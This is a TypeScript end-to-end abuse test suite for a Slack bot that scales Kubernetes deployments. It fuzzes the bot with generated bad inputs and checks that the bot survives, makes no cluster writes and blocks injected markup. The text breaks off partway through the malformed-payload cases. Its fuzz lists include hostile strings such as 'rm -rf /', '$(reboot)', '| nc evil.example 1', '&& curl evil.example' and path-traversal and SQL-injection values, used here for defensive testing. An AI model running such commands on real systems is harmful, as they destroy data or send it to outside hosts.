// The abuse suite: a few hundred generated bad inputs against the real bot process in HTTP mode
// (the harness of scale-up.e2e.test.ts: local Slack and Kubernetes API servers, signed requests).
// Every input is generated from a seeded pseudo-random generator, so a failure reproduces:
// SCALEBOT_ABUSE_SEED=<seed> npx vitest run test/e2e/abuse.e2e.test.ts
//
// For every case: the bot process is still alive and answers /healthz, the Kubernetes API saw no
// write, the runs opened on purpose are untouched, and the sender got an answer: a 4xx, an ack
// carrying an ephemeral text, a post to its response_url, or an ephemeral for that user.
// Cases that show a known bug of the bot are `it.fails` (see KNOWN): the suite stays green and the
// day the bug is fixed the case turns red, to be flipped back to `it`.
import { request as httpRequest } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startKubeApiServer, type KubeApiServer } from '../servers/kube-api-server.ts';
import { startSlackApiServer, type SlackApiServer, type SlackMessage } from '../servers/slack-api-server.ts';
import { SIGNING_SECRET, startBot, type BotProcess } from '../support/bot-process.ts';
import { cardText, findCard, findElement, SlackDriver, waitFor } from '../support/slack-driver.ts';

const SEED = Number(process.env.SCALEBOT_ABUSE_SEED ?? 0x5ca1ab07) >>> 0;
/** Cases in flight at once. */
const CONCURRENCY = 10;
/** How long a case may take to be answered asynchronously (response_url or chat.postEphemeral). */
const ANSWER_MS = 2000;
/** After a refusal (401), how long we watch that nothing happened anyway. */
const GRACE_MS = 300;
/** How long /healthz may take to answer. */
const HEALTHZ_MS = 5000;

// ---------------------------------------------------------------------------------------------
// A tiny seeded generator (mulberry32): same seed, same cases.

function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

class Rng {
  private readonly next: () => number;
  constructor(seed: number) {
    this.next = mulberry32(seed);
  }
  /** An integer in [min, max]. */
  int(min: number, max: number): number {
    return min + Math.floor(this.next() * (max - min + 1));
  }
  pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.next() * items.length)]!;
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  /** n items, in random order, without repeats. */
  some<T>(items: readonly T[], n: number): T[] {
    const pool = [...items];
    const out: T[] = [];
    while (out.length < n && pool.length) out.push(pool.splice(Math.floor(this.next() * pool.length), 1)[0]!);
    return out;
  }
}

/** Each category draws from its own stream: adding cases to one does not reshuffle the others. */
function rngFor(category: string): Rng {
  let h = SEED ^ 0x9e3779b9;
  for (const ch of category) h = Math.imul(h ^ ch.charCodeAt(0), 0x01000193) >>> 0;
  return new Rng(h);
}

// ---------------------------------------------------------------------------------------------
// The world: one bot, its catalog, and the runs opened on purpose.

const WAITING = 'Waiting for 2 checklist items and 1 approval';

/** Runs opened on purpose before the cases; each must stay exactly as opened (nothing ticked or approved). */
const RUNS = {
  ua1: { service: 'ua-1', requester: 'U0REQA1' },
  ua2: { service: 'ua-2', requester: 'U0REQA2' },
  ua3: { service: 'ua-3', requester: 'U0REQA3' },
  tp1: { service: 'tp-1', requester: 'U0REQT1' },
  tp2: { service: 'tp-2', requester: 'U0REQT2' },
  uk1: { service: 'uk-1', requester: 'U0REQK1' },
  wtA: { service: 'wt-a', requester: 'U0REQW1' },
  wtB: { service: 'wt-b', requester: 'U0REQW2' },
  wtC: { service: 'wt-c', requester: 'U0REQW3' },
  fg1: { service: 'fg-1', requester: 'U0REQF1' },
  // Targets of wrong-team clicks without a usable team id (refused since the fail-open fix).
  wtD: { service: 'wt-d', requester: 'U0REQW4' },
  wtE: { service: 'wt-e', requester: 'U0REQW5' },
} as const;
type RunKey = keyof typeof RUNS;
const UNPROTECTED: RunKey[] = [];

const FUZZ_SERVICES = ['api-gateway', 'payments', 'search'];
const OTHER_SERVICES = ['wt-svc', 'wt-svc2', 'fg-svc', 'ff-svc'];
const ALL_SERVICES = [...FUZZ_SERVICES, ...OTHER_SERVICES, ...Object.values(RUNS).map((r) => r.service)];

/** Approvers: U0BOB and the user group S0SRE, which holds U0CAROL and many generated approvers (one per case). */
const GROUP_APPROVERS = Array.from({ length: 400 }, (_, i) => `U0AP${String(i + 1).padStart(4, '0')}`);

const CATALOG = `channel: C0INFRA
services:${ALL_SERVICES.map(
  (name) => `
  ${name}:
    description: ${name} service
    target: { kind: kubernetes, namespace: prod, deployment: ${name} }
    limits: { min: 3, baseline: 3, max: 50 }
    approvals: { required: 1, approvers: [U0BOB, S0SRE] }`,
).join('')}
`;

interface World {
  bot: BotProcess;
  driver: SlackDriver;
}

let kube: KubeApiServer;
let slack: SlackApiServer;
let main: World;
const runIds = {} as Record<RunKey, string>;

const startWorld = async (): Promise<World> => {
  const bot = await startBot({ catalog: CATALOG, kubeconfig: kube.kubeconfigPath, slackApiUrl: slack.apiUrl });
  return { bot, driver: new SlackDriver(bot.url, SIGNING_SECRET, slack) };
};

const card = (key: RunKey): SlackMessage => findCard(slack, runIds[key]);
/** The approve button's value as the card shows it: `{ r, i, v }`. */
const shownValue = (key: RunKey): { r: string; i: string; v: number } => {
  const button = findElement(card(key), (e) => e.action_id === 'scalebot_approve');
  return JSON.parse(String(button?.value)) as { r: string; i: string; v: number };
};

const WRITE_METHODS = new Set(['PATCH', 'PUT', 'POST', 'DELETE']);
const kubeWrites = () => kube.requests.filter((r) => WRITE_METHODS.has(r.method)).map((r) => `${r.method} ${r.path}`);

/** Broadcasts and links a person typed must never reach Slack as markup. */
const INJECTED = ['<!channel>', '<!here>', '<!everyone>', '<https://evil', '<mailto:'];

// ---------------------------------------------------------------------------------------------
// Cases and their outcomes.

type Category = 'fuzzed /scale text' | 'malformed payloads' | 'oversize bodies' | 'tampered button values' | 'unknown actions' | 'wrong team' | 'forged signatures' | 'unauthorized approvers';

/**
 * Bugs this suite found; their cases are `it.fails` until fixed. `shows` is the problem the bug
 * causes; `also` what may come with it ((?!) matches nothing). A known case with any other problem fails for real.
 * None is open. Fixed so far: a `null` body hung its request, wrong-shape payloads got a 500, clicks
 * without a usable user or channel, checkbox clicks not of the card's checklist and commands without
 * a response_url got no answer (the HTTP guard in src/adapters/slack/http-guard.ts answers a malformed
 * signed body 400; the listeners answer on the response_url or with an ephemeral); future-dated
 * timestamps were served; an empty or absent team id failed open.
 */
type KnownBug = { bug: string; shows: RegExp; also: RegExp };
const KNOWN = {} as const satisfies Record<string, KnownBug>;
type Known = keyof typeof KNOWN;
const knownBug = (k: Known): KnownBug => (KNOWN as Record<string, KnownBug>)[k]!;

type Expectation =
  /** Any answer: 4xx, ack text, response_url or ephemeral. */
  | 'answer'
  /** 401, and nothing else happens. */
  | 'refused'
  /** 413 or 431: the body or the headers are too large. */
  | 'too-large';

interface Sent {
  status: number;
  body: string;
  json?: Record<string, unknown>;
  error?: string;
}

interface Case {
  category: Category;
  /** The test name: short, with what was sent. */
  title: string;
  expect: Expectation;
  /** Who should be answered with an ephemeral (undefined: only a 4xx, the ack or the response_url count). */
  user?: string;
  /** The response_url id of the request, when it has one. */
  responseId?: string;
  known?: Known;
  /** The input is expected to kill the process: it is sent to a bot of its own. */
  isolated?: boolean;
  send: (w: World) => Promise<Sent>;
  /** Further problems with the outcome (e.g. a run that changed), checked once the case is answered. */
  check?: (answer: Answer | undefined) => string[];
}

type Answer = { kind: '4xx'; status: number } | { kind: 'ack' | 'response_url' | 'ephemeral'; text: string } | { kind: 'closed'; text: string };

interface Outcome {
  status: number;
  error?: string;
  answer?: Answer;
  alive: boolean;
  healthy: boolean;
  healthzMs: number;
  newWrites: string[];
  problems: string[];
  ms: number;
}

const outcomes = new Map<Case, Outcome>();

function describeSent(s: Sent): string {
  return s.error ? `network error ${s.error}` : `HTTP ${s.status}${s.body ? ` ${s.body.slice(0, 160)}` : ''}`;
}

/** GET /healthz. Generous: while a few MB-sized bodies are parsed on a loaded machine, the answer may take a second or two. */
async function healthz(bot: BotProcess): Promise<{ ok: boolean; ms: number }> {
  const started = performance.now();
  try {
    const ok = (await fetch(`${bot.url}/healthz`, { signal: AbortSignal.timeout(HEALTHZ_MS) })).ok;
    return { ok, ms: performance.now() - started };
  } catch {
    return { ok: false, ms: performance.now() - started };
  }
}

/** Waits briefly for one answer to the case: a 4xx, an ack with an ephemeral text, a response_url post or an ephemeral. */
async function answerTo(c: Case, sent: Sent, ephemeralsBefore: number): Promise<Answer | undefined> {
  if (sent.status >= 400 && sent.status < 500) return { kind: '4xx', status: sent.status };
  if (sent.error || sent.status !== 200) return undefined;
  const acked = sent.json?.text;
  if (typeof acked === 'string' && acked.trim() && sent.json?.response_type === 'ephemeral') return { kind: 'ack', text: acked };
  const found = await waitFor(
    () => {
      const response = c.responseId ? slack.responses.find((r) => r.id === c.responseId) : undefined;
      if (response) return { kind: 'response_url' as const, text: String(response.body.text ?? '') };
      const ephemeral = c.user ? slack.ephemerals.slice(ephemeralsBefore).find((e) => e.user === c.user) : undefined;
      if (ephemeral) return { kind: 'ephemeral' as const, text: ephemeral.text };
      return undefined;
    },
    ANSWER_MS,
    'an answer',
  ).catch(() => undefined);
  return found;
}

/** Whatever reached Slack for this case after a refusal: there must be nothing. */
function sideEffectsOf(c: Case, ephemeralsBefore: number): string[] {
  const out: string[] = [];
  if (c.responseId && slack.responses.some((r) => r.id === c.responseId)) out.push(`its response_url was answered`);
  if (c.user && slack.ephemerals.slice(ephemeralsBefore).some((e) => e.user === c.user)) out.push(`${c.user} was sent an ephemeral`);
  if (c.user && slack.messages.some((m) => m.text?.includes(`<@${c.user}>`) || (m.blocks && cardText(m).includes(`<@${c.user}>`)))) out.push(`a message names ${c.user}`);
  return out;
}

/** Runs opened on purpose whose card no longer shows them waiting, untouched. */
function changedRuns(): string[] {
  return (Object.keys(RUNS) as RunKey[])
    .filter((key) => !UNPROTECTED.includes(key) && runIds[key])
    .flatMap((key) => {
      const text = cardText(card(key));
      return text.includes(WAITING) && text.includes('Peer approval (0/1)') ? [] : [`the card of ${runIds[key]} (${RUNS[key].service}) changed: ${text.slice(0, 300)}`];
    });
}

function injectedMarkup(): string[] {
  const texts = [
    ...slack.messages.map((m) => `${m.text ?? ''}${m.blocks ? cardText(m) : ''}`),
    ...slack.ephemerals.map((e) => e.text),
    ...slack.responses.map((r) => String(r.body.text ?? '')),
  ];
  return INJECTED.filter((bad) => texts.some((t) => t.includes(bad))).map((bad) => `${bad} reached Slack as markup`);
}

async function execute(c: Case): Promise<Outcome> {
  const world = c.isolated ? await startWorld() : main;
  const ephemeralsBefore = slack.ephemerals.length;
  const writesBefore = kubeWrites().length;
  const started = performance.now();
  let sent: Sent;
  try {
    sent = await c.send(world);
  } catch (error) {
    const e = error as Error & { cause?: { code?: string } };
    sent = { status: 0, body: '', error: e.cause?.code ?? e.message };
  }
  const problems: string[] = [];
  let answer: Answer | undefined;
  if (c.expect === 'refused') {
    if (sent.status !== 401) problems.push(`expected 401, got ${describeSent(sent)}`);
    await new Promise((r) => setTimeout(r, GRACE_MS));
    problems.push(...sideEffectsOf(c, ephemeralsBefore).map((p) => `not refused: ${p}`));
    // Served instead of refused: what it was answered, for the record.
    answer = sent.status === 401 ? { kind: '4xx', status: 401 } : await answerTo(c, sent, ephemeralsBefore);
  } else if (c.expect === 'too-large') {
    if (sent.status === 413 || sent.status === 431) answer = { kind: '4xx', status: sent.status };
    else if (sent.error && CLOSED_MID_UPLOAD.has(sent.error)) answer = { kind: 'closed', text: sent.error };
    else problems.push(`expected 413 or 431, got ${describeSent(sent)}`);
  } else {
    answer = await answerTo(c, sent, ephemeralsBefore);
    if (sent.status >= 500) problems.push(`server error: ${describeSent(sent)}`);
    else if (!answer) problems.push(`no answer: ${describeSent(sent)}, nothing on its response_url${c.user ? `, no ephemeral for ${c.user}` : ''} within ${ANSWER_MS} ms`);
  }
  // "No longer answers" means persistently: on a loaded CI machine (test files run side by side)
  // one probe can miss its deadline right after a 4 MB body; a wedged bot misses all three.
  let health = await healthz(world.bot);
  for (let retry = 0; retry < 2 && !health.ok; retry++) health = await healthz(world.bot);
  const healthy = health.ok;
  if (!healthy) await waitFor(() => world.bot.child.exitCode !== null || world.bot.child.signalCode !== null, 1000).catch(() => undefined);
  const alive = world.bot.child.exitCode === null && world.bot.child.signalCode === null;
  if (!alive) problems.push(`the bot process exited (code ${world.bot.child.exitCode}): ${world.bot.stderr.join('').split('\n').slice(0, 6).join(' | ')}`);
  else if (!healthy) problems.push('the bot no longer answers /healthz');
  const writes = kubeWrites();
  if (writes.length) problems.push(`Kubernetes writes: ${writes.join(', ')}`);
  problems.push(...changedRuns(), ...injectedMarkup(), ...(c.check?.(answer) ?? []));
  if (c.isolated) await world.bot.stop();
  return { status: sent.status, error: sent.error, answer, alive, healthy, healthzMs: health.ms, newWrites: writes.slice(writesBefore), problems, ms: performance.now() - started };
}

/** Runs the cases, CONCURRENCY at a time; cases for the same user run one after another (answers are matched by user). */
async function runAll(cases: Case[]): Promise<void> {
  const chains = new Map<string, Case[]>();
  cases.forEach((c, i) => {
    const key = c.user ?? `#${i}`;
    chains.set(key, [...(chains.get(key) ?? []), c]);
  });
  // Cases that take longest first (their own bot; a known silence waits out ANSWER_MS), for better packing.
  const cost = (chain: Case[]) => chain.reduce((sum, c) => sum + (c.isolated ? 3 : c.known ? 2 : 0.1), 0);
  const queue = [...chains.values()].sort((a, b) => cost(b) - cost(a));
  const worker = async () => {
    for (let chain = queue.shift(); chain; chain = queue.shift()) {
      for (const c of chain) outcomes.set(c, await execute(c));
    }
  };
  await Promise.all(Array.from({ length: CONCURRENCY }, worker));
}

function reproduce(c: Case): string {
  return `[${c.category}] ${c.title} (seed ${SEED})`;
}

/** One describe per category: the cases run in beforeAll (bounded concurrency), one `it` per case. */
function category(name: Category, make: () => Case[]): void {
  describe(name, () => {
    const cases = make();
    beforeAll(async () => {
      const started = performance.now();
      await runAll(cases);
      durations[name] = Math.round(performance.now() - started);
    }, 60_000);
    for (const c of cases) {
      if (!c.known) {
        it(c.title, () => {
          const o = outcomes.get(c);
          expect(o, 'the case did not run').toBeDefined();
          expect(o!.problems, reproduce(c)).toEqual([]);
        });
        continue;
      }
      const known = knownBug(c.known);
      it.fails(`${c.title} — KNOWN BUG ${c.known}`, () => {
        const o = outcomes.get(c);
        if (!o) throw new Error('the case did not run');
        const other = o.problems.filter((p) => !known.shows.test(p) && !known.also.test(p));
        // Broken in another way than the known bug: returning makes this expected failure fail.
        if (other.length) return void console.error(`${reproduce(c)}: other problems than ${c.known}:`, other);
        expect(o.problems, `${reproduce(c)}: ${known.bug}`).toEqual([]);
      });
    }
    cases.forEach((c) => allCases.push(c));
  });
}
const allCases: Case[] = [];
const durations: Partial<Record<Category, number>> = {};

// ---------------------------------------------------------------------------------------------
// Request builders (all signed with the real secret unless a case forges them).

const userSeq = new Map<string, number>();
function userOf(prefix: string): string {
  const n = (userSeq.get(prefix) ?? 0) + 1;
  userSeq.set(prefix, n);
  return `${prefix}${String(n).padStart(4, '0')}`;
}
let approverSeq = 0;
const nextApprover = (): string => GROUP_APPROVERS[approverSeq++]!;

/** A /scale command body; `fields` replace (or, when undefined, remove) form fields. */
function commandOf(w: World, text: string, user: string, fields: Record<string, string | undefined> = {}): { body: string; responseId: string } {
  const params = new URLSearchParams(w.driver.commandBody(text, user));
  const responseId = params.get('response_url')!.split('/').pop()!;
  for (const [k, v] of Object.entries(fields)) {
    if (v === undefined) params.delete(k);
    else params.set(k, v);
  }
  return { body: params.toString(), responseId };
}

const payloadBody = (json: string) => new URLSearchParams({ payload: json }).toString();

/** A block_actions payload for a click on `message`, as the driver builds it, and its response_url id. */
function actionOf(w: World, message: SlackMessage, action: Record<string, unknown>, user: string): { payload: Record<string, unknown>; responseId: string } {
  const payload = w.driver.actionPayload(message, action, user);
  return { payload, responseId: String(payload.response_url).split('/').pop()! };
}

/** A POST that gives up after POST_TIMEOUT_MS: a request the bot never answers is a finding, not a hang. */
async function post(w: World, body: string, headers?: Record<string, string>): Promise<Sent> {
  let timer: NodeJS.Timeout | undefined;
  const timeout = new Promise<never>((_, reject) => {
    timer = setTimeout(() => reject(new Error(`no HTTP answer within ${POST_TIMEOUT_MS} ms`)), POST_TIMEOUT_MS);
  });
  try {
    const r = await Promise.race([w.driver.post(body, headers ?? w.driver.sign(body)), timeout]);
    return { status: r.status, body: r.body, json: r.json };
  } finally {
    clearTimeout(timer);
  }
}
const POST_TIMEOUT_MS = 5000;

/**
 * A POST on a connection of its own (no keep-alive): the bot answers 413/431 before reading a
 * too-large request and drops the connection, which must not break the next request's pooled socket.
 */
function postAlone(w: World, body: string | Buffer, headers: Record<string, string>): Promise<Sent> {
  return new Promise((resolve) => {
    let settled = false;
    const done = (s: Sent) => {
      if (!settled) {
        settled = true;
        resolve(s);
      }
    };
    const req = httpRequest(`${w.bot.url}/slack/events`, { method: 'POST', agent: false, headers: { 'content-type': 'application/x-www-form-urlencoded', 'content-length': String(Buffer.byteLength(body)), ...headers } }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (d: Buffer) => chunks.push(d));
      res.on('end', () => {
        const text = Buffer.concat(chunks).toString('utf8');
        let json: Record<string, unknown> | undefined;
        try {
          json = text ? (JSON.parse(text) as Record<string, unknown>) : undefined;
        } catch {
          json = undefined;
        }
        done({ status: res.statusCode ?? 0, body: text, json });
      });
      res.on('error', () => done({ status: res.statusCode ?? 0, body: '' }));
    });
    // The bot answers 413 before reading a too-large body and closes the connection: our write may
    // fail (EPIPE, ECONNRESET) just before its answer is read. Give the answer a moment to arrive.
    req.on('error', (error: NodeJS.ErrnoException) => setTimeout(() => done({ status: 0, body: '', error: error.code ?? error.message }), 300));
    req.end(body);
  });
}

/** The bot closed the connection while a too-large body was still being sent (its 413 may be lost with it). */
const CLOSED_MID_UPLOAD = new Set(['EPIPE', 'ECONNRESET']);

const show = (s: string, max = 70): string => {
  const json = JSON.stringify(s);
  return json.length > max ? `${json.slice(0, max)}…" (${s.length} chars)` : json;
};

/** Sends a block_actions payload built from `payload` (signed, form-encoded) and remembers its response_url. */
function sendAction(c: Case, w: World, build: (w: World) => { payload: Record<string, unknown>; responseId: string }, raw?: (json: string) => string): Promise<Sent> {
  const { payload, responseId } = build(w);
  c.responseId = responseId;
  const json = JSON.stringify(payload);
  return post(w, payloadBody(raw ? raw(json) : json));
}

/** Sends `/scale <text>` (signed, form-encoded) with the given form fields replaced or removed. */
function sendCommand(c: Case, w: World, text: string, user: string, fields?: Record<string, string | undefined>): Promise<Sent> {
  const { body, responseId } = commandOf(w, text, user, fields);
  c.responseId = responseId;
  return post(w, body);
}

/** A press of one of the card's own buttons, as Slack would send it. */
function pressOf(w: World, message: SlackMessage, intent: string, user: string): { payload: Record<string, unknown>; responseId: string } {
  const button = findElement(message, (e) => e.type === 'button' && e.action_id === `scalebot_${intent}`);
  if (!button) throw new Error(`the card has no ${intent} button`);
  const block = (message.blocks ?? []).find((b) => ((b.elements as unknown[]) ?? []).includes(button));
  return actionOf(w, message, { type: 'button', action_id: button.action_id, block_id: block?.block_id, value: button.value, text: button.text }, user);
}

/** The checkbox group of the card as Slack would send it with `selected` ticked. */
function tickOf(w: World, message: SlackMessage, user: string, blockId?: string, selected?: unknown): { payload: Record<string, unknown>; responseId: string } {
  const block = (message.blocks ?? []).find((b) => String(b.block_id ?? '').startsWith('tick|'));
  const element = (block?.elements as Record<string, unknown>[] | undefined)?.[0];
  const options = (element?.options as { value: string }[] | undefined) ?? [];
  return actionOf(w, message, { type: 'checkboxes', action_id: 'scalebot_tick', block_id: blockId ?? block?.block_id, selected_options: selected ?? options }, user);
}

const namesUser = (user: string): string[] =>
  slack.messages.some((m) => m.text?.includes(`<@${user}>`) || (m.blocks && cardText(m).includes(`<@${user}>`))) ? [`a channel message or card names ${user}: the request was served`] : [];

// ---------------------------------------------------------------------------------------------
// Setup, and the summary line printed at the end.

let setupMs = 0;
beforeAll(async () => {
  const started = performance.now();
  [kube, slack] = await Promise.all([startKubeApiServer({ tickMs: 30 }), startSlackApiServer()]);
  kube.addNode({ name: 'node-1', cpu: '32', memory: '128Gi', pods: 250 });
  // Only the runs opened on purpose need a Deployment (a run on another service is blocked by its
  // checks, which is as good for these cases and cheaper).
  for (const { service } of Object.values(RUNS)) kube.addDeployment({ namespace: 'prod', name: service, replicas: 3, cpuRequest: '100m', memoryRequest: '128Mi' });
  slack.userGroups.set('S0SRE', ['U0CAROL', ...GROUP_APPROVERS]);
  main = await startWorld();
  // The runs opened on purpose: each waits for its checklist and an approval, and must stay so.
  await Promise.all(
    (Object.keys(RUNS) as RunKey[]).map(async (key) => {
      const { reply } = await main.driver.ask(`${RUNS[key].service} 10 --reason "abuse suite"`, RUNS[key].requester);
      const id = /run-[a-z0-9]+/.exec(reply)?.[0];
      if (!id) throw new Error(`could not open a run on ${RUNS[key].service}: ${reply}`);
      runIds[key] = id;
    }),
  );
  await waitFor(() => (Object.keys(RUNS) as RunKey[]).every((key) => cardText(card(key)).includes(WAITING)), 20_000, 'the runs to wait for approval');
  kube.requests.length = 0;
  setupMs = Math.round(performance.now() - started);
}, 60_000);

afterAll(async () => {
  const per: Record<string, { ms: number; slowestHealthzMs: number; cases: number; crashes: number; clusterEffects: number; unanswered: number; serverErrors: number; knownBugs: number; answers: Record<string, number> }> = {};
  for (const c of allCases) {
    const o = outcomes.get(c);
    const p = (per[c.category] ??= { ms: durations[c.category] ?? 0, slowestHealthzMs: 0, cases: 0, crashes: 0, clusterEffects: 0, unanswered: 0, serverErrors: 0, knownBugs: 0, answers: {} });
    p.cases++;
    if (c.known) p.knownBugs++;
    if (!o) continue;
    if (!o.alive) p.crashes++;
    if (o.alive && !c.isolated) p.slowestHealthzMs = Math.max(p.slowestHealthzMs, Math.round(o.healthzMs));
    if (o.newWrites.length) p.clusterEffects++;
    if (!o.answer) p.unanswered++;
    if (o.status >= 500) p.serverErrors++;
    const kind = o.answer ? (o.answer.kind === '4xx' ? `http ${o.answer.status}` : o.answer.kind === 'closed' ? `connection closed mid-upload` : o.answer.kind) : 'none';
    p.answers[kind] = (p.answers[kind] ?? 0) + 1;
  }
  const sum = (k: 'cases' | 'crashes' | 'clusterEffects' | 'unanswered' | 'serverErrors' | 'knownBugs') => Object.values(per).reduce((a, p) => a + p[k], 0);
  const unanswered = allCases.filter((c) => outcomes.get(c) && !outcomes.get(c)!.answer).map((c) => `[${c.category}] ${c.title}`);
  const knownBugs = Object.fromEntries(
    (Object.keys(KNOWN) as Known[]).map((k) => [k, { bug: knownBug(k).bug, cases: allCases.filter((c) => c.known === k).map((c) => `[${c.category}] ${c.title}`) }]),
  );
  // Outside the known bugs, all three must be 0.
  const unknown = allCases.filter((c) => !c.known).map((c) => outcomes.get(c)).filter((o) => o !== undefined);
  const unexpected = { crashes: unknown.filter((o) => !o.alive).length, clusterEffects: unknown.filter((o) => o.newWrites.length).length, unanswered: unknown.filter((o) => !o.answer).length };
  console.log(
    JSON.stringify({ abuse: 'summary', seed: SEED, setupMs, cases: sum('cases'), crashes: sum('crashes'), clusterEffects: sum('clusterEffects'), unanswered: sum('unanswered'), serverErrors: sum('serverErrors'), knownBugs: sum('knownBugs'), unexpected, perCategory: per, unansweredCases: unanswered, known: knownBugs }),
  );
  if (process.env.SCALEBOT_E2E_LOG && main) (await import('node:fs')).writeFileSync(process.env.SCALEBOT_E2E_LOG, main.bot.logs.join('\n') + main.bot.stderr.join(''));
  await main?.bot.stop();
  await Promise.all([kube?.close(), slack?.close()]);
});

// ---------------------------------------------------------------------------------------------
// 1. Fuzzed /scale text.

category('fuzzed /scale text', () => {
  const rng = rngFor('fuzz');
  const services = [...FUZZ_SERVICES, 'nosuch', 'API-GATEWAY', 'api_gateway', 'status', 'help', 'cancel', 'history', 'down', 'plan', 'ａｐｉ', 'api-gateway\u200b', '-api', 'a'.repeat(70)];
  const numbers = ['10', '-3', '0', '1e3', '0x10', '3.5', '١٠', '１０', '99999999999999999999', '+5', '5.', '.5', 'NaN', 'Infinity', '007', '1_000', '½', '-0', '10\u200b', '4294967297', '20', '٣', '६', '1,000'];
  const flags = ['--reason', '--reason=', '--reason="x"', '--dry-run', '--dry-run=false', '--force', '-f', '--', '---reason', '--REASON', '—reason', '--reason --dry-run', '--dry-run --dry-run', '--help', '-', '--reason=because'];
  const quotes = ['"unterminated', '“smart quotes”', '“unbalanced', '"a"b"', "'single'", '""', '"', '‘curly’', '"nested "inner" quotes"', '„low”'];
  const shell = ['; rm -rf /', '$(reboot)', '`id`', '| nc evil.example 1', '&& curl evil.example', '> /etc/passwd', '$HOME', '${IFS}', '*', '~root', '\\', '%00', '../../etc/passwd', "' OR 1=1 --"];
  const markup = ['<!channel>', '<!here>', '<!everyone>', '<@U0BOB>', '<https://evil.example|click me>', '<#C0INFRA>', '<!subteam^S0SRE>', '*bold*', '`code`', '&lt;!channel&gt;', '&amp;lt;!here&amp;gt;', '<mailto:a@evil.example|mail>', '&amp;'];
  const control = ['\u0000', '\u0007', '\u001b[31m', '\r\n', '\t', '\u007f', '\b', '\u0085', '\f'];
  const unicode = ['\u200f', '\u202e', '\u200b', '\ufeff', '👍', '🚀🔥', 'e\u0301', 'İ', 'ß', '\u2028', '\u00a0', '\u3000', '𝟏𝟎'];
  const pools = [services, numbers, flags, quotes, shell, markup, control, unicode];
  const fixed = [
    '',
    '   ',
    '\t\n ',
    '\u3000\u00a0',
    'api-gateway -3',
    'api-gateway 99999999999999999999',
    'api-gateway 3.5',
    'api-gateway 0x10',
    'api-gateway ١٠',
    'payments 10 --force',
    'payments 10 --reason',
    'payments 10 --reason "a" --reason "b"',
    'search 10 --reason "unterminated',
    'search 10 --reason “unbalanced',
    'api-gateway 10; rm -rf /',
    '$(reboot) 5',
    '<!channel> 5',
    `${rng.pick(FUZZ_SERVICES)} ${rng.int(3, 50)} --reason "<!channel> <https://evil.example|click> <@U0BOB> <!here>"`,
    `${rng.pick(FUZZ_SERVICES)} ${rng.int(3, 50)} --reason “<!everyone> “smart” <mailto:a@evil.example|x>”`,
    'api-gateway\u0000 10',
    '\u001b[31mapi-gateway 10',
    'api-gateway\u200f 10',
    '\u202eyawetag-ipa 10',
    'api\u200b-gateway 10',
    '🚀 10',
    'x'.repeat(1001),
    `api-gateway 10 --reason "${'y'.repeat(1200)}"`,
    `api-gateway 10 --reason "${'z'.repeat(400)}"`,
    `cancel run-${'a'.repeat(rng.int(1, 30))}`,
    'status ../../etc',
  ];
  const random = Array.from({ length: 22 }, () => {
    const words: string[] = [];
    if (rng.chance(0.6)) words.push(rng.pick(services));
    if (rng.chance(0.5)) words.push(rng.pick(numbers));
    for (let n = rng.int(0, 4); n > 0; n--) words.push(rng.pick(rng.pick(pools)));
    if (rng.chance(0.15)) words.push('w'.repeat(rng.int(200, 1400)));
    const spaces = [' ', '  ', '\t', ' \u00a0', '\n'];
    return words.map((w, i) => (i ? rng.pick(spaces) : '') + w).join('');
  });
  return [...fixed, ...random].map((text, i): Case => {
    const user = userOf('U0FZ');
    const c: Case = {
      category: 'fuzzed /scale text',
      title: `#${String(i + 1).padStart(2, '0')} /scale ${show(text)}`,
      expect: 'answer',
      user,
      send: (w) => sendCommand(c, w, text, user),
      check: (answer) => (answer && answer.kind !== '4xx' && /<!(channel|here|everyone)>|<https?:\/\/evil|<@U0BOB>/.test(answer.text) ? [`the answer carries live markup: ${answer.text.slice(0, 200)}`] : []),
    };
    return c;
  });
});

// ---------------------------------------------------------------------------------------------
// 2. Malformed payloads, validly signed: they pass verification and test the bot's own handling.

category('malformed payloads', () => {
  const rng = rngFor('malformed');
  const garbage = (n: number) => Array.from({ length: n }, () => String.fromCharCode(rng.int(33, 126))).join('');
  type Spec = { title: string; known?: Known; isolated?: boolean; user?: string; send: (c: Case, w: World) => Promise<Sent> };
  const raw = (body: string, contentType: string) => (_c: Case, w: World) => post(w, body, { ...w.driver.sign(body), 'content-type': contentType });
  /** A block_actions payload on the uk-1 card, changed by `mutate`; the action is an unknown control (answered when handled). */
  const shaped = (title: string, mutate: (p: Record<string, unknown>) => void, known?: Known, action: Record<string, unknown> = { type: 'button', action_id: 'not_ours', value: 'x' }): Spec => {
    const user = userOf('U0MF');
    return {
      title,
      known,
      user,
      send: (c, w) =>
        sendAction(c, w, (w2) => {
          const a = actionOf(w2, card('uk1'), action, user);
          mutate(a.payload);
          return a;
        }),
    };
  };
  const cmd = (title: string, text: string, fields: Record<string, string | undefined>): Spec => {
    const user = userOf('U0MF');
    return { title, user, send: (c, w) => sendCommand(c, w, text, user, fields) };
  };
  const specs: Spec[] = [
    // Bodies that are not a form.
    { title: 'application/json body {}', send: raw('{}', 'application/json') },
    { title: 'application/json body {"type":"block_actions"}', send: raw('{"type":"block_actions"}', 'application/json') },
    { title: 'application/json body [1,2,3]', send: raw('[1,2,3]', 'application/json') },
    { title: 'application/json body "a string"', send: raw('"a string"', 'application/json') },
    { title: 'application/json body null', send: raw('null', 'application/json') },
    { title: 'text/plain body "hello world"', send: raw('hello world', 'text/plain') },
    { title: 'text/plain body null', send: raw('null', 'text/plain') },
    { title: 'application/xml body', send: raw('<?xml version="1.0"?><payload type="block_actions"/>', 'application/xml') },
    { title: 'multipart/form-data body', send: raw('--b\r\nContent-Disposition: form-data; name="payload"\r\n\r\n{"type":"block_actions"}\r\n--b--\r\n', 'multipart/form-data; boundary=b') },
    { title: 'form content type with a charset', send: (_c, w) => { const body = payloadBody('{"type":"block_actions"}'); return post(w, body, { ...w.driver.sign(body), 'content-type': 'application/x-www-form-urlencoded; charset=utf-8' }); } },
    { title: 'random bytes as application/octet-stream', send: raw(garbage(rng.int(50, 500)), 'application/octet-stream') },
    // Forms without a usable payload.
